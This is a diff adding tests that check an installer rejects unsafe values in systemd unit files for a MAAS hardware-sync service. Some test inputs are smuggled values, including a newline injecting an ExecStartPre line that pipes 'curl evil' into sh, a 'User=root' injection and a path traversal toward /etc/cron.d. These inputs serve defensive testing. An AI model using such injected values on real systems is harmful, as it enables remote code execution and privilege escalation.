@@ -150,3 +150,102 @@ test("a binary path with a space is quoted in ExecStart and a custom state dir g
   );
   expect(service).not.toContain("StateDirectory=");
 });
+
+describe("every value that goes into a unit file is checked", () => {
+  const unitPath = () => join(root, "lib/systemd/system/maas_hardware_sync.service");
+
+  test.each([
+    [
+      "a newline (a second unit line)",
+      "/usr/local/bin/maas-hw-sync\nExecStartPre=/bin/sh -c 'curl evil | sh'",
+    ],
+    ["a carriage return", "/usr/local/bin/maas-hw-sync\rUser=root"],
+    ["a tab", "/usr/local/bin/maas\t-hw-sync"],
+    ["a NUL byte", "/usr/local/bin/maas-hw-sync\0"],
+    ["a '..' segment", "/usr/local/../../tmp/maas-hw-sync"],
+    ["a relative path", "bin/maas-hw-sync"],
+  ])("--binary with %s: exit-2 usage error naming the flag and the accepted form", async (_name, value) => {
+    const error = await installCommand(ctx(), { config, root, binary: value }).catch((caught) => caught);
+    expect(error).toMatchObject({ code: "HWS_USAGE" });
+    expect(error.message).toMatch(/^--binary must be an absolute path/);
+    expect(error.message).toContain(JSON.stringify(value));
+    expect(error.hint).toContain("/usr/local/bin/maas-hw-sync");
+    expect(existsSync(unitPath())).toBe(false);
+  });
+
+  test.each([
+    ["a '..' segment", "/var/lib/../../etc/cron.d"],
+    ["a trailing '..'", "/var/lib/maas-hw-sync/.."],
+    ["a newline", "/var/lib/maas-hw-sync\nExecStartPost=/bin/false"],
+    ["a relative path", "var/lib/maas-hw-sync"],
+  ])("--state-dir with %s: exit-2 usage error naming the flag", async (_name, value) => {
+    const error = await installCommand(ctx(), { config, root, binary, stateDir: value }).catch(
+      (caught) => caught,
+    );
+    expect(error).toMatchObject({ code: "HWS_USAGE" });
+    expect(error.message).toMatch(/^--state-dir must be an absolute path/);
+    expect(existsSync(unitPath())).toBe(false);
+  });
+
+  test("the usage error reaches the command line as exit 2", async () => {
+    const { main } = await import("../src/main.ts");
+    const stderr: string[] = [];
+    const code = await main(
+      [
+        "install",
+        "--config",
+        config,
+        "--root",
+        root,
+        "--binary",
+        binary,
+        "--state-dir",
+        "/var/lib/a/../../b",
+      ],
+      {
+        stdout: () => {},
+        stderr: (text) => stderr.push(text),
+        env: {},
+        signal: new AbortController().signal,
+      },
+    );
+    expect(code).toBe(2);
+    expect(stderr.join("")).toContain("error HWS_USAGE: --state-dir must be an absolute path");
+  });
+
+  test.each([
+    ["a backslash", "/opt/back\\slash/maas-hw-sync"],
+    ["a double quote", '/opt/quo"te/maas-hw-sync'],
+    ["a single quote", "/opt/it's/maas-hw-sync"],
+  ])("--binary with %s (systemd refuses it in an executable's path): usage error", async (_name, value) => {
+    const error = await installCommand(ctx(), { config, root, binary: value }).catch((caught) => caught);
+    expect(error).toMatchObject({ code: "HWS_USAGE" });
+    expect(error.message).toContain("systemd refuses");
+    expect(existsSync(unitPath())).toBe(false);
+  });
+
+  test("spaces, '%', '\\' and quotes are escaped for systemd; a state dir systemd cannot name gets no StateDirectory", async () => {
+    const odd = join(dir, "odd tools", "100%", "maas-hw-sync");
+    mkdirSync(dirname(odd), { recursive: true });
+    copyFileSync(binary, odd);
+    const stateDir = '/var/lib/hw sync %h/back\\slash/"quoted"';
+    const result = await installCommand(ctx(), { config, root, binary: odd, stateDir });
+    const service = readFileSync(result.service, "utf8");
+    expect(service).toContain(
+      `\nExecStart="${odd.replace(/%/g, "%%")}" run --config /etc/maas/maas-machine-creds.yml --state-dir "/var/lib/hw sync %%h/back\\\\slash/\\"quoted\\""\n`,
+    );
+    expect(service).not.toContain("StateDirectory=");
+    if (hasSystemdAnalyze) {
+      const verify = spawnSync("systemd-analyze", ["verify", result.service, result.timer], {
+        encoding: "utf8",
+      });
+      expect(verify.stderr).toBe("");
+      expect(verify.status).toBe(0);
+    }
+  });
+
+  test("a plain state dir under /var/lib keeps its StateDirectory", async () => {
+    const result = await installCommand(ctx(), { config, root, binary, stateDir: "/var/lib/hwsync/agent-1" });
+    expect(readFileSync(result.service, "utf8")).toContain("\nStateDirectory=hwsync/agent-1\n");
+  });
+});
